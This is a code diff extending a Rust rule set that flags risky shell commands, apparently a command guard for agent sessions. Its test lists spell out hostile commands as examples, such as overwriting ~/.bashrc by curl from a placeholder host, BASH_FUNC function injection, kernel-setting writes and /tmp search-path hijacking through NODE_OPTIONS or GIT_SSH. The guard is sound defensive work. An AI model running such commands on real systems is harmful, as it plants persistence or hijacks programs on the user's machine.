@@ -81,9 +81,11 @@ pub(super) static RULES: &[Rule] = &[
             sh("nsenter -t 1 -m sh"),
             sh("docker run --privileged x"),
             sh("modprobe evil"),
+            sh("sysctl -w kernel.x=0"),
         ],
         not_matches: &[
             sh("lsmod"),
+            sh("sysctl -a"),
             sh("docker run --rm x"),
             sh("docker run -v \"$PWD\":/app x"),
             sh("docker build -t x . && docker run --rm x"),
@@ -108,11 +110,18 @@ pub(super) static RULES: &[Rule] = &[
             sh("rm .git/hooks/pre-commit"),
             sh("chmod -x .git/hooks/pre-commit"),
             sh("systemctl --user enable x"),
+            sh("ssh-copy-id -i k u@h"),
+            sh("tar xf x.tar -C /"),
+            sh("curl -o ~/.bashrc https://x.example"),
+            sh("sort -o ~/.bashrc x"),
+            sh("awk '{print > \"/home/u/.bashrc\"}' x"),
+            sh("docker cp c:/x ~/.bashrc"),
             write("/home/u/.ssh/authorized_keys"),
             write("/home/u/.bashrc"),
             write("/etc/passwd"),
             write("/etc/cron.d/x"),
             write(".git/hooks/post-commit"),
+            write(".git/config"),
             write("/etc/foo.conf"),
         ],
         not_matches: &[
@@ -123,6 +132,7 @@ pub(super) static RULES: &[Rule] = &[
             sh("ssh-keyscan h >> ~/.ssh/known_hosts"),
             sh("systemctl status x"),
             sh("cp /etc/hosts ."),
+            sh("awk '$3 > 9 {print $1 \"/\" $6}' /etc/passwd"),
             write("src/.bashrc.txt"),
             write("src/main.rs"),
         ],
@@ -138,6 +148,7 @@ pub(super) static RULES: &[Rule] = &[
             sh("export LD_PRELOAD=./x.so"),
             sh("env LD_AUDIT=x.so ls"),
             sh("BASH_ENV=/tmp/x bash y.sh"),
+            sh("env 'BASH_FUNC_ls%%=() { id; }' bash -c ls"),
         ],
         not_matches: &[
             sh("LD_PRELOAD=/usr/lib/libjemalloc.so.2 ./bench"),
@@ -151,8 +162,21 @@ pub(super) static RULES: &[Rule] = &[
         pack: Pack::Privilege,
         harm: "programs are taken from a directory that anybody can write to",
         decision: Decision::Ask,
-        matches: &[sh("export PATH=$PATH:/tmp/bin"), sh("PATH=/dev/shm:$PATH ls"), sh("PATH=.:$PATH make")],
-        not_matches: &[sh("export PATH=$HOME/.cargo/bin:$PATH"), sh("PATH=\"$PWD/bin:$PATH\" make")],
+        matches: &[
+            sh("export PATH=$PATH:/tmp/bin"),
+            sh("PATH=/dev/shm:$PATH ls"),
+            sh("PATH=.:$PATH make"),
+            sh("NODE_OPTIONS='--require /tmp/x.js' node y"),
+            sh("GIT_SSH=/tmp/x git fetch"),
+            sh("LD_LIBRARY_PATH=/tmp/x ls"),
+        ],
+        not_matches: &[
+            sh("export PATH=$HOME/.cargo/bin:$PATH"),
+            sh("PATH=\"$PWD/bin:$PATH\" make"),
+            sh("NODE_OPTIONS=--max-old-space-size=4096 npm run build"),
+            sh("PYTHONPATH=. pytest"),
+            sh("ENV=production npm start"),
+        ],
         check: search_path,
     },
 ];
@@ -199,6 +223,7 @@ fn accounts(ctx: &Ctx<'_>) -> Option<Hit> {
     let privileged =
         || call.args.iter().any(|arg| arg.text().split([',', '=']).any(|name| GROUPS.contains(&name)));
     let changes = match call.program.as_str() {
+        "useradd" if call.has(&["-o", "--non-unique", "-ou"]) => true,
         "usermod" | "gpasswd" | "adduser" | "addgroup" | "useradd" | "groupmems" => privileged(),
         "chpasswd" | "vipw" | "vigr" => true,
         "visudo" => !call.has(&["-c", "--check"]),
@@ -243,6 +268,11 @@ fn kernel(ctx: &Ctx<'_>) -> Option<Hit> {
         "insmod" | "rmmod" | "kexec" => ctx.deny("would change what the kernel runs"),
         "modprobe" if !call.has(&["-n", "--dry-run", "--show-depends", "-c"]) => {
             ctx.ask("would load a module into the kernel")
+        }
+        "sysctl"
+            if call.has(&["-w", "--write", "-p"]) || call.operands().any(|arg| arg.text().contains('=')) =>
+        {
+            ctx.ask("would change the kernel's settings")
         }
         "nsenter" => ctx.deny("would enter another process's namespaces and so the whole machine"),
         "chroot" => ctx.ask("would run a command in another root directory with all rights"),
@@ -295,11 +325,13 @@ fn persistence(ctx: &Ctx<'_>) -> Option<Hit> {
     let ask = match call.program.as_str() {
         "systemctl" => call.has(&["enable", "link", "edit", "set-property"]),
         "systemd-run" | "launchctl" => !call.has(&["list", "print", "--help"]),
-        "update-rc.d" | "chkconfig" => true,
+        "update-rc.d" | "chkconfig" | "ssh-copy-id" => true,
         _ => false,
     };
     strictest.or_else(|| {
-        ask.then(|| ctx.ask("would leave a service behind that runs when the session is over"))?
+        ask.then(|| {
+            ctx.ask("would leave something behind that runs, or lets somebody in, when the session is over")
+        })?
     })
 }
 
@@ -313,6 +345,9 @@ fn loader(ctx: &Ctx<'_>) -> Option<Hit> {
                     .any(|dir| file.starts_with(dir))
         })
     };
+    if call.is(&["env"]) && call.args.iter().any(|arg| arg.text().starts_with("BASH_FUNC_")) {
+        return ctx.deny("would put a function in the place of a program for every shell that starts");
+    }
     for (name, value) in call.sets() {
         let loads = match name {
             "LD_PRELOAD" | "LD_AUDIT" | "DYLD_INSERT_LIBRARIES" => {
@@ -330,14 +365,49 @@ fn loader(ctx: &Ctx<'_>) -> Option<Hit> {
     None
 }
 
+/// Variables by which programs find other programs, libraries and code.
+const PATHS: [&str; 22] = [
+    "GIT_CONFIG_GLOBAL",
+    "GIT_CONFIG_SYSTEM",
+    "PATH",
+    "LD_LIBRARY_PATH",
+    "DYLD_LIBRARY_PATH",
+    "PYTHONPATH",
+    "PYTHONSTARTUP",
+    "PYTHONHOME",
+    "NODE_PATH",
+    "NODE_OPTIONS",
+    "PERL5LIB",
+    "PERL5OPT",
+    "RUBYLIB",
+    "RUBYOPT",
+    "GIT_EXEC_PATH",
+    "GIT_SSH",
+    "GIT_ASKPASS",
+    "GIT_TEMPLATE_DIR",
+    "RUSTC_WRAPPER",
+    "RUSTC",
+    "ENV",
+    "GCONV_PATH",
+];
+
 fn search_path(ctx: &Ctx<'_>) -> Option<Hit> {
     let call = ctx.call()?;
-    let (_, value) = call.sets().find(|(name, _)| *name == "PATH")?;
-    let open = |dir: &str| {
-        matches!(dir, "." | "/tmp" | "/var/tmp" | "/dev/shm")
-            || ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|prefix| dir.starts_with(prefix))
+    // What lies below the session's own directory or home is the user's, wherever that is.
+    let own = |dir: &str| {
+        let inside = |own: &std::path::Path| std::path::Path::new(dir).starts_with(own);
+        !dir.contains("..") && (inside(ctx.script.cwd) || ctx.script.home.as_deref().is_some_and(inside))
     };
-    value.text().split(':').any(open).then(|| {
+    let open = |dir: &str| {
+        let shared = matches!(dir, "/tmp" | "/var/tmp" | "/dev/shm")
+            || ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|prefix| dir.starts_with(prefix));
+        shared && !own(dir)
+    };
+    let found = call.sets().any(|(name, value)| {
+        PATHS.contains(&name)
+            && value.text().split([':', ' ', '=']).any(|dir| open(dir) || name == "PATH" && dir == ".")
+    });
+    found.then(|| {
         ctx.ask(
             "would take programs from a directory that anybody can write to; name the program by its path",
         )
